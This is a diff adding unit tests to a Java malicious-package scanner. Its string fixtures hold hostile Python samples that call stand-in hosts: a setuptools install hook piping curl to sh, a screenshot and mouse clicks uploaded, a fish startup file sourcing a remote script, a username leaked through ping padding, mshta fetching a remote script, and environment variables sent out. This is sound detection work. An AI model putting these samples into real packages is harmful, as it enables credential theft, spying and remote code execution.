@@ -1184,6 +1184,101 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/voice.py", recorder))).isEmpty();
   }
 
+  @Test
+  void aProcessFunctionHandedToASetuptoolsCommandsRunnerRunsCommands() {
+    String executed =
+        "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n"
+            + "class I(install):\n    def run(self):\n"
+            + "        self.execute(os.system, ('curl -fsSL https://a.example/r.sh | sh',), 'runtime')\n"
+            + "        install.run(self)\n\nsetup(name='pkg', cmdclass={'install': I})\n";
+    String query = "class Store:\n    def rows(self, sql):\n        return self.execute(sql, ())\n";
+
+    List<Finding> findings = check(sdistWith("pkg-2.0/setup.py", executed));
+
+    assertThat(only(findings, "install-hook-runs-code").level()).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(only(findings, "setup-runs-commands").level()).isEqualTo(RiskLevel.HIGH);
+    // a database helper's own execute runs a query, not a program
+    assertThat(check(wheelWith("pkg/store.py", query))).isEmpty();
+  }
+
+  @Test
+  void aScreenshotAskedOfTheDesktopOverDBusAndSentIsCritical() {
+    String shell =
+        "import dbus, requests\nbus = dbus.SessionBus()\n"
+            + "s = bus.get_object('org.gnome.Shell.Screenshot', '/org/gnome/Shell/Screenshot')\n"
+            + "s.Screenshot(False, False, '/tmp/s.png', dbus_interface='org.gnome.Shell.Screenshot')\n"
+            + "requests.put('https://p.example/s', data=open('/tmp/s.png', 'rb').read())\n";
+    String notifier =
+        "import dbus\nbus = dbus.SessionBus()\n"
+            + "n = bus.get_object('org.freedesktop.Notifications', '/org/freedesktop/Notifications')\n";
+
+    assertThat(levelIn(shell, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/notify.py", notifier))).isEmpty();
+  }
+
+  @Test
+  void mouseClicksRecordedAndSentAreHigh() {
+    String clicks =
+        "import requests\nfrom pynput import mouse\n\ndef on_click(x, y, b, pressed):\n"
+            + "    requests.post('https://h.example/c', json=[x, y])\n\n"
+            + "with mouse.Listener(on_click=on_click) as l:\n    l.join()\n";
+    String mover = "from pynput import mouse\nmouse.Controller().position = (10, 20)\n";
+
+    assertThat(levelIn(clicks, "mouse-clicks-sent")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/move.py", mover))).isEmpty();
+  }
+
+  @Test
+  void fishsConfDFolderIsAStartUpFolder() {
+    String fish =
+        "import os\nconf = os.path.join(os.path.expanduser('~'), '.config', 'fish', 'conf.d')\n"
+            + "with open(os.path.join(conf, 'p.fish'), 'w') as fh:\n"
+            + "    fh.write('curl -fsS https://t.example/f | source &\\n')\n";
+    String completions =
+        "import os\nout = os.path.join(os.path.expanduser('~'), '.config', 'fish', 'completions')\n"
+            + "with open(os.path.join(out, 'tool.fish'), 'w') as fh:\n"
+            + "    fh.write('complete -c tool -l help\\n')\n";
+
+    assertThat(levelIn(fish, "persists-and-runs")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/complete.py", completions))).isEmpty();
+  }
+
+  @Test
+  void dataCutIntoPingPaddingIsACovertChannel() {
+    String ping =
+        "import getpass, subprocess\nwho = getpass.getuser().encode().hex()\n"
+            + "for i in range(0, len(who), 32):\n"
+            + "    subprocess.run(['ping', '-c', '1', '-p', who[i:i + 32], '10.0.0.9'])\n";
+    String probe = "import subprocess\nsubprocess.run(['ping', '-c', '1', '-p', 'ff', host])\n";
+
+    assertThat(levelIn(ping, "ping-chunks")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(ping, "identity-in-ping")).isEqualTo(RiskLevel.HIGH);
+    // a fixed fill pattern is a network test
+    assertThat(check(wheelWith("pkg/probe.py", probe))).isEmpty();
+  }
+
+  @Test
+  void mshtaGivenAnAddressByKeywordRunsWhatItServes() {
+    String hta = "import os\nos.startfile('mshta.exe', arguments='https://h.example/w.hta')\n";
+    String local = "import os\nos.startfile('mshta.exe', arguments=local_help_path)\n";
+
+    assertThat(levelIn(hta, "runs-remote-script-host")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/help.py", local))).isEmpty();
+  }
+
+  @Test
+  void theEnvironmentAsBytesIsTheEnvironment() {
+    String environb =
+        "import json, os, urllib.request\n"
+            + "env = {k.decode(): v.decode() for k, v in os.environb.items()}\n"
+            + "urllib.request.urlopen(urllib.request.Request('https://g.example/g',"
+            + " data=json.dumps(env).encode()))\n";
+    String home = "import os\nhome = os.environb.get(b'HOME', b'/')\n";
+
+    assertThat(levelIn(environb, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/paths.py", home))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
@@ -1291,7 +1386,10 @@ class ContentRuleTest {
     "bracketed imports,  'from os import (system as '",
     "joined lookups,     'getattr(os, \"sys\" \"tem\")(\"\" + '",
     "deferred calls,     'functools.partial(os.system, threading.Thread(target=exec, args=('",
-    "modules by name,    'kb = importlib.import_module(\"pynput.keyboard\")\nkb.Listener(f)\n'"
+    "modules by name,    'kb = importlib.import_module(\"pynput.keyboard\")\nkb.Listener(f)\n'",
+    "setuptools runners, 'self.execute(os.system, (\"\" + '",
+    "ping padding,       '[\"ping\", \"-p\", d[i:'",
+    "mouse listeners,    'mouse.Listener(on_click='"
   })
   void hostileRepetitionIsJudgedWithoutFailing(String shape, String piece) {
     // On one line: each piece's words occur a hundred thousand times there, which made the scan
